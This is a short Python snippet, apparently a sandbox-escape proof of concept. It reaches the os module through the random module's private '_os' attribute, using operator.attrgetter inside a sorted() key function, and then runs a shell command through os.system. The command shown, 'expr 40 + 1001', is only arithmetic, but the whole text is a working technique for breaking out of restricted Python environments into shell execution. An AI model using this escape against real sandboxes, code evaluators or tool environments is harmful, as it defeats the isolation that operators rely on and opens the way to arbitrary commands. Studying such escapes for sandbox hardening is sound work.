import random, operator
r=[]
sorted([random],key=lambda m: r.append(operator.attrgetter("_os")(m)) or 0)
r[0].system("expr 40 + 1001")
